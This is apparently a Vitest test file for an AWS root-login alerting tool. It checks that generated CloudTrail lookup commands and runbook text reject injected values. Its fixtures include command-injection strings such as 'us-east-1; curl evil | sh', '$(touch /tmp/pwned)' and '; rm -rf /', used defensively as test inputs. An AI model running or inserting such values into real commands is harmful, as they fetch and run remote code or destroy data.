import { describe, expect, it } from 'vitest';
import { lookupCommands, windowLookupCommands } from '../../src/alert/lookup-command.js';
import { fillRunbook, runbookValues } from '../../src/alert/runbook.js';
import { toTrailEvent } from '../../src/intake/trail-event.js';
import { consoleLoginRecord, HOSTILE } from './alert-fixture.js';

/** What a shell would treat as more than a plain argument. */
const SHELL_META = /[;&|`$(){}<>\\"\n\r]/;

describe('lookupCommands', () => {
  it('lists root activity from 24 h before to 1 h after the event, in us-east-1', () => {
    const [first, ...rest] = lookupCommands(toTrailEvent(consoleLoginRecord()));
    expect(first.command).toBe(
      "aws cloudtrail lookup-events --region us-east-1 --lookup-attributes AttributeKey=Username,AttributeValue=root --start-time 2026-02-28T03:14:15Z --end-time 2026-03-01T04:14:15Z --query 'Events[].[EventTime,EventName,EventSource]' --output table",
    );
    expect(rest).toEqual([]);
  });

  it('gives the event Region first and the us-east-1 variant for sign-in and IAM events', () => {
    const commands = lookupCommands(
      toTrailEvent(consoleLoginRecord({ awsRegion: 'eu-central-1' })),
    );
    expect(commands.map((c) => c.command.split(' ')[4])).toEqual(['eu-central-1', 'us-east-1']);
    expect(commands[1]?.purpose).toContain('console sign-in, IAM and STS');
  });

  it('adds a lookup by the session access key when the event has a valid one', () => {
    const record = consoleLoginRecord({
      userIdentity: { type: 'Root', accessKeyId: 'ASIAQWERTYUIOPASDFGH' },
    });
    const commands = lookupCommands(toTrailEvent(record));
    expect(commands.at(-1)?.command).toContain(
      'AttributeKey=AccessKeyId,AttributeValue=ASIAQWERTYUIOPASDFGH',
    );
  });

  it('omits the time range when the event has no valid time', () => {
    const [first] = lookupCommands(toTrailEvent(consoleLoginRecord({ eventTime: 'yesterday' })));
    expect(first.command).not.toContain('--start-time');
    expect(first.purpose).toContain('no valid time');
  });

  describe('with hostile values', () => {
    const hostile = [
      HOSTILE,
      'us-east-1; curl evil | sh',
      'us-east-1 --endpoint-url http://evil',
      '$(touch /tmp/pwned)',
      'us-east-1\n',
      'eu-west-1`id`',
    ];

    it.each(hostile)('never puts region %j into a command', (region) => {
      const record = consoleLoginRecord({
        awsRegion: region,
        userIdentity: { type: 'Root', accessKeyId: `ASIA${region}` },
      });
      const commands = lookupCommands(toTrailEvent(record));
      // The us-east-1 lookup, and a <region> one for the Region that could not be named.
      expect(commands.map((c) => c.command.split(' ')[4])).toEqual(['us-east-1', '<region>']);
      for (const { command } of commands) {
        expect(command).not.toContain(region);
        expect(
          command.replace('<region>', '').replace(/'Events\[\]\.\[[A-Za-z,]+\]'/, ''),
        ).not.toMatch(SHELL_META);
      }
    });
  });
});

describe('windowLookupCommands', () => {
  const start = new Date('2026-03-01T03:14:15Z');
  const end = new Date('2026-03-01T03:29:15Z');

  it("lists root activity over the window's time range, us-east-1 first, each Region once", () => {
    const commands = windowLookupCommands(['eu-west-1', 'us-east-1', 'eu-west-1'], start, end);
    expect(commands.map((c) => c.command.split(' ')[4])).toEqual(['us-east-1', 'eu-west-1']);
    for (const { command } of commands) {
      expect(command).toContain(
        '--lookup-attributes AttributeKey=Username,AttributeValue=root --start-time 2026-03-01T03:14:15Z --end-time 2026-03-01T03:29:15Z ',
      );
    }
  });

  it('names a few Regions and leaves a <region> variant for the rest', () => {
    const regions = [
      'eu-west-1',
      'eu-west-2',
      'eu-west-3',
      'eu-north-1',
      'eu-south-1',
      'ap-east-1',
    ];
    const commands = windowLookupCommands(regions, start, end);
    expect(commands).toHaveLength(7);
    expect(commands.at(-1)?.command).toContain('--region <region> ');
    expect(commands.at(-1)?.purpose).toContain('1 more valid Region(s)');
  });

  it('never puts a hostile Region into a command', () => {
    const region = 'us-east-1; curl evil | sh';
    const commands = windowLookupCommands([region], start, end);
    expect(commands.map((c) => c.command.split(' ')[4])).toEqual(['us-east-1', '<region>']);
    for (const { command } of commands) expect(command).not.toContain('curl');
  });
});

describe('fillRunbook', () => {
  it('fills account, region, source IP and the lookup command', () => {
    const event = toTrailEvent(consoleLoginRecord({ awsRegion: 'eu-west-1' }));
    const [confirm, review, rotate] = fillRunbook(
      [
        'Call the owner of {account} about {sourceIp}.',
        'Run {lookupCommand}',
        'Check {region}. {unknown}',
      ],
      runbookValues(event),
    );
    expect(confirm).toBe('Call the owner of 111122223333 about 203.0.113.7.');
    expect(review).toBe(`Run ${lookupCommands(event)[0].command}`);
    expect(rotate).toBe('Check eu-west-1. {unknown}');
  });

  it('writes placeholders for values that fail their strict pattern', () => {
    const event = toTrailEvent(
      consoleLoginRecord({
        recipientAccountId: '1111222233334; rm -rf /',
        awsRegion: 'us-east-1$(id)',
        sourceIPAddress: '203.0.113.7 `id`',
      }),
    );
    const values = runbookValues(event);
    expect(values.account).toBe('<account>');
    expect(values.region).toBe('<region>');
    expect(values.sourceIp).toBe('<source-ip>');
    expect(values.lookupCommand).toContain('--region us-east-1 ');
  });

  it('accepts IPv6 sources but not zone suffixes or service names', () => {
    const ip = (sourceIPAddress: string) =>
      runbookValues(toTrailEvent(consoleLoginRecord({ sourceIPAddress }))).sourceIp;
    expect(ip('2001:db8::7')).toBe('2001:db8::7');
    expect(ip('fe80::1%eth0')).toBe('<source-ip>');
    expect(ip('AWS Internal')).toBe('<source-ip>');
  });

  it('lets a medium style text and commands separately', () => {
    const event = toTrailEvent(consoleLoginRecord({ recipientAccountId: 'bad' }));
    const [step] = fillRunbook(['{account}: {lookupCommand}'], runbookValues(event), {
      text: (value) => value.toUpperCase(),
      command: (value) => `[${value.slice(0, 3)}]`,
    });
    expect(step).toBe('<ACCOUNT>: [aws]');
  });
});
